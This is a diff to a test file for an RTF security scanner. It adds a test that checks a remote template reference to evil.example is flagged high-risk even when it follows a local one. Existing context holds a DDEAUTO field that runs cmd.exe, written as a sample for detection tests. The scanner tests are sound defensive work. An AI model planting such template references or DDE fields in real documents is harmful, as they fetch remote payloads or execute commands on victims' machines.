@@ -81,6 +81,11 @@ describe('scanRtf', () => {
     ]);
   });
 
+  it('judges each template on its own: a remote one after a local one still refuses', () => {
+    const both = rtf('{\\*\\template C:\\\\a.dot}{\\*\\template http://evil.example/x.dot}');
+    expect(kinds(scanRtf(both)).sort()).toEqual(['external-template:high', 'local-template:info']);
+  });
+
   it('finds DDE fields and remote includes', () => {
     const dde = rtf(
       '{\\field{\\*\\fldinst {\\rtlch DDEAUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe "/k calc"}}{\\fldrslt x}}',
